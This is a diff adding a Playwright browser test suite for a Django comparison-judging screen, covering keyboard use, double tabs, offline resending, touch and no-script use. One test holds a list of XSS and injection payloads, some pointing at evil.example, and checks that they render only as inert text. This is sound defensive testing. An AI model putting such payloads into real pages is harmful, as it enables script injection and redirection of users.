@@ -1,0 +1,310 @@
+"""The judging screen in a real Chromium: by keyboard alone, twice at once, without network or scripts."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterator
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Page, Route, expect
+
+from feedback.models import Assignment, Preference, Project, User
+from tests.browser import web
+from tests.factories import make_comparison, make_completion, make_member, make_project, make_prompt
+
+pytestmark = pytest.mark.browser
+SignIn = Callable[[User], None]
+
+
+@pytest.fixture
+def mei(site: str, sign_in: SignIn) -> User:
+    """An annotator of a fresh project with 25 comparisons, signed in."""
+    project = make_project(slug="desk")
+    for number in range(25):
+        make_comparison(project=project, priority=-number, texts=(f"left {number}", f"right {number}"))
+    user = make_member(project=project)
+    sign_in(user)
+    return user
+
+
+@pytest.fixture
+def rough(browser: Browser, site: str, mei: User) -> Iterator[BrowserContext]:
+    """A browser of hers whose network fails: its console has errors by right."""
+    context = browser.new_context(viewport={"width": 1280, "height": 800}, reduced_motion="reduce")
+    context.set_default_timeout(15_000)
+    web.sign_in(context, site, mei)
+    yield context
+    context.close()
+
+
+def open_judge(page: Page, site: str) -> str:
+    page.goto(f"{site}/p/desk/judge/")
+    return shown(page)
+
+
+def shown(page: Page) -> str:
+    """The assignment on the screen."""
+    return page.locator("#comparison").get_attribute("data-assignment") or ""
+
+
+def wait_for_another(page: Page, before: str) -> str:
+    expect(page.locator("#comparison")).not_to_have_attribute("data-assignment", before)
+    return shown(page)
+
+
+def test_twenty_judgements_by_keyboard_alone(page: Page, site: str, mei: User) -> None:
+    now = open_judge(page, site)
+    said = []
+    for number in range(20):
+        step, floor = number % 7 + 1, "gn"[number % 2]
+        page.keyboard.press(str(step))
+        page.keyboard.press(floor)
+        page.keyboard.press("Enter")
+        said.append((int(now), step - 4, {"g": "both", "n": "neither"}[floor]))
+        now = wait_for_another(page, now)
+    found = [
+        (
+            row.assignment_id,
+            row.strength if row.shown_order == [0, 1] else -(row.strength or 0),
+            row.acceptability,
+        )
+        for row in Preference.objects.order_by("pk")
+    ]
+    assert found == said
+    assert all(row.active_ms is not None for row in Preference.objects.all())
+    expect(page.locator("#comparison_title")).to_be_focused()
+    expect(page.locator("#judge_announcer")).to_have_text("Next comparison.")
+    expect(page.locator("#comparison .head")).to_contain_text("20 today")
+
+
+def test_skip_note_arrows_undo_and_help_by_keyboard(page: Page, site: str, mei: User) -> None:
+    first = open_judge(page, site)
+    page.keyboard.press("?")
+    expect(page.locator("#judge_keys")).to_be_visible()
+    page.keyboard.press("3")  # closed keys do nothing behind the dialog
+    page.keyboard.press("Escape")
+    page.keyboard.press("s")
+    page.keyboard.press("3")
+    second = wait_for_another(page, first)
+    assert Assignment.objects.get(pk=first).skip_reason == "language"
+    page.keyboard.press("ArrowRight")
+    page.keyboard.press("ArrowRight")
+    page.keyboard.press("c")
+    page.keyboard.type("7 words, and the letters s and u")
+    page.keyboard.press("Control+Enter")
+    third = wait_for_another(page, second)
+    preference = Preference.objects.get()
+    assert preference.comment == "7 words, and the letters s and u"
+    assert abs(preference.strength or 0) == 2
+    page.keyboard.press("u")
+    assert wait_for_another(page, third) == second
+    expect(page.locator("input[name=strength]:checked")).to_have_value("2")
+    expect(page.locator("#judge_announcer")).to_contain_text("Taken back")
+    page.keyboard.press("u")
+    assert wait_for_another(page, second) == first
+
+
+def test_confirm_without_a_choice_says_so(page: Page, site: str, mei: User) -> None:
+    before = open_judge(page, site)
+    page.keyboard.press("Enter")
+    expect(page.locator(".scale legend")).to_contain_text("Choose one of the seven steps")
+    page.locator("[data-confirm]").click()
+    assert shown(page) == before and not Preference.objects.exists()
+
+
+def test_single_keys_can_be_switched_off(page: Page, site: str, mei: User) -> None:
+    open_judge(page, site)
+    page.keyboard.press("?")
+    page.locator("#judge_keys_on").uncheck()
+    page.keyboard.press("Escape")
+    page.keyboard.press("1")
+    expect(page.locator("input[name=strength]:checked")).to_have_count(0)
+
+
+def test_a_double_click_is_one_judgement(page: Page, site: str, mei: User) -> None:
+    before = open_judge(page, site)
+    page.keyboard.press("2")
+    page.locator("[data-confirm]").dblclick()
+    wait_for_another(page, before)
+    page.wait_for_load_state("networkidle")
+    assert Preference.objects.count() == 1
+
+
+def test_two_tabs_are_one_judgement(context: BrowserContext, site: str, mei: User) -> None:
+    one, two = context.new_page(), context.new_page()
+    first = open_judge(one, site)
+    assert open_judge(two, site) == first
+    one.keyboard.press("1")
+    one.keyboard.press("Enter")
+    wait_for_another(one, first)
+    two.keyboard.press("7")
+    two.keyboard.press("Enter")
+    wait_for_another(two, first)
+    expect(two.locator("#comparison")).to_contain_text("already, in another tab")
+    preference = Preference.objects.get()
+    assert preference.strength == (-3 if preference.shown_order == [0, 1] else 3)
+    assert shown(one) == shown(two)
+
+
+# --- when the network fails -------------------------------------------------------------------------
+
+
+def test_offline_is_said_and_mended(rough: BrowserContext, site: str) -> None:
+    page = rough.new_page()
+    before = open_judge(page, site)
+    page.keyboard.press("6")
+    rough.set_offline(True)
+    page.keyboard.press("Enter")
+    expect(page.locator("[data-saving]")).to_contain_text("Not saved yet")
+    page.keyboard.press("1")  # what was sent must stay what was sent
+    expect(page.locator("input[name=strength]:checked")).to_have_value("2")
+    assert not Preference.objects.exists()
+    rough.set_offline(False)
+    wait_for_another(page, before)
+    assert Preference.objects.count() == 1
+    assert page.evaluate("Object.keys(localStorage)") == []
+
+
+def test_a_lost_reply_is_resent_under_the_same_key(rough: BrowserContext, site: str) -> None:
+    page = rough.new_page()
+    before = open_judge(page, site)
+    bodies = []
+
+    def lose_the_reply(route: Route) -> None:
+        bodies.append(route.request.post_data)
+        if len(bodies) > 1:
+            return route.continue_()
+        route.fetch()  # the server has it now
+        route.abort()
+
+    page.route("**/p/desk/judge/", lose_the_reply)
+    page.keyboard.press("5")
+    page.keyboard.press("Enter")
+    wait_for_another(page, before)
+    assert len(bodies) == 2
+    assert Preference.objects.count() == 1
+
+
+def test_a_closed_page_sends_what_it_kept_when_opened_again(rough: BrowserContext, site: str) -> None:
+    page = rough.new_page()
+    before = open_judge(page, site)
+    rough.set_offline(True)
+    page.keyboard.press("7")
+    page.keyboard.press("Enter")
+    expect(page.locator("[data-saving]")).to_contain_text("Not saved yet")
+    page.close()
+    rough.set_offline(False)
+    again = rough.new_page()
+    open_judge(again, site)
+    wait_for_another(again, before)
+    expect(again.locator("#judge_announcer")).to_contain_text("has been saved now")
+    assert Preference.objects.get().assignment_id == int(before)
+
+
+def test_signed_out_keeps_the_answer_until_signed_in(rough: BrowserContext, site: str, mei: User) -> None:
+    page = rough.new_page()
+    before = open_judge(page, site)
+    rough.clear_cookies()
+    page.keyboard.press("3")
+    page.keyboard.press("Enter")
+    expect(page.locator("[data-saving]")).to_contain_text("signed out")
+    expect(page.locator("#id_password")).to_have_count(0)
+    web.sign_in(rough, site, mei)
+    rough.new_page().goto(f"{site}/p/desk/progress/")  # sets the new token, as signing in by the form does
+    page.locator("[data-try-now]").click()
+    wait_for_another(page, before)
+    assert Preference.objects.count() == 1
+
+
+def test_what_is_typed_survives_a_reload(page: Page, site: str, mei: User) -> None:
+    before = open_judge(page, site)
+    page.keyboard.press("2")
+    page.keyboard.press("c")
+    page.keyboard.type("half a thought")
+    page.goto(f"{site}/p/desk/progress/")
+    assert open_judge(page, site) == before
+    expect(page.locator("textarea[name=comment]")).to_have_value("half a thought")
+    expect(page.locator("input[name=strength]:checked")).to_have_value("-2")
+
+
+# --- what may not happen, and small screens ---------------------------------------------------------
+
+PAYLOADS = [
+    "<script>window.pwned=1</script>",
+    "<img src=x onerror=window.pwned=1>",
+    "<svg onload=window.pwned=1>",
+    "<a href='javascript:window.pwned=1' autofocus onfocus=window.pwned=1>x</a>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<div hx-get='https://evil.example/' hx-trigger='load' hx-on:load='window.pwned=1'>x</div>",
+    "<form action='https://evil.example/'><button>Confirm</button></form>",
+    "</textarea></div></article><style>*{display:none}</style>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='https://evil.example/'>",
+    "{{ request.user }}{% debug %}",
+    "\u202eevil\u2066\u200b\u00ad\x07",
+]
+
+
+def test_hostile_texts_are_only_text(context: BrowserContext, page: Page, site: str, mei: User) -> None:
+    project = Project.objects.get()
+    for number, payload in enumerate(PAYLOADS):
+        prompt = make_prompt(project=project, text=f"{number} {payload}")
+        texts = [make_completion(prompt=prompt, text=f"{payload} {side}") for side in "xy"]
+        texts[0].comparisons.model.put_up(prompt, texts, priority=100 - number)
+    asked: list[str] = []
+    context.on("request", lambda request: asked.append(request.url))
+    context.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
+    now = open_judge(page, site)
+    for payload in PAYLOADS:
+        visible = page.locator(".side.a .text").inner_text()
+        wanted = payload if payload.isprintable() else "RLO"
+        assert wanted in visible
+        page.keyboard.press("4")
+        page.keyboard.press("Enter")
+        now = wait_for_another(page, now)
+        assert page.evaluate("window.pwned") is None
+    page.goto(f"{site}/p/desk/progress/")
+    assert page.evaluate("window.pwned") is None
+    assert [address for address in asked if not address.startswith(site)] == []
+
+
+def test_a_phone_judges_by_touch(browser: Browser, site: str, mei: User) -> None:
+    context = browser.new_context(viewport={"width": 360, "height": 640}, has_touch=True, is_mobile=True)
+    watched = web.watch(context)
+    web.sign_in(context, site, mei)
+    page = context.new_page()
+    before = open_judge(page, site)
+    assert page.evaluate("document.documentElement.scrollWidth") == 360
+    dock = page.locator(".dock").bounding_box()
+    assert dock is not None and dock["height"] < 640 * 0.4
+    for target in page.locator(
+        ".dock label.btn, .scale label, .dock button[data-confirm], .dock summary"
+    ).all():
+        box = target.bounding_box()
+        assert box is not None and box["height"] >= 40 and box["width"] >= 40
+    page.locator(".scale label").nth(5).tap()
+    page.locator(".floor label").nth(1).tap()
+    page.locator("[data-confirm]").tap()
+    wait_for_another(page, before)
+    assert Preference.objects.get().acceptability == "one"
+    context.close()
+    assert not watched.problems()
+
+
+def test_judging_works_without_scripts(browser: Browser, site: str, mei: User) -> None:
+    context = browser.new_context(java_script_enabled=False)
+    web.sign_in(context, site, mei)
+    page = context.new_page()
+    first = open_judge(page, site)
+    page.locator(".scale label").nth(0).click()
+    page.locator("[data-confirm]").click()
+    second = shown(page)
+    assert second != first and Preference.objects.count() == 1
+    page.locator("[data-skip] summary").click()
+    page.get_by_role("button", name="It is broken").click()
+    assert shown(page) not in (first, second)
+    assert Assignment.objects.get(pk=second).skip_reason == "broken"
+    page.get_by_role("button", name="Undo").click()
+    assert shown(page) == second
+    page.get_by_role("link", name="today").click()
+    page.get_by_role("button", name="Change").click()
+    assert shown(page) == first
+    context.close()
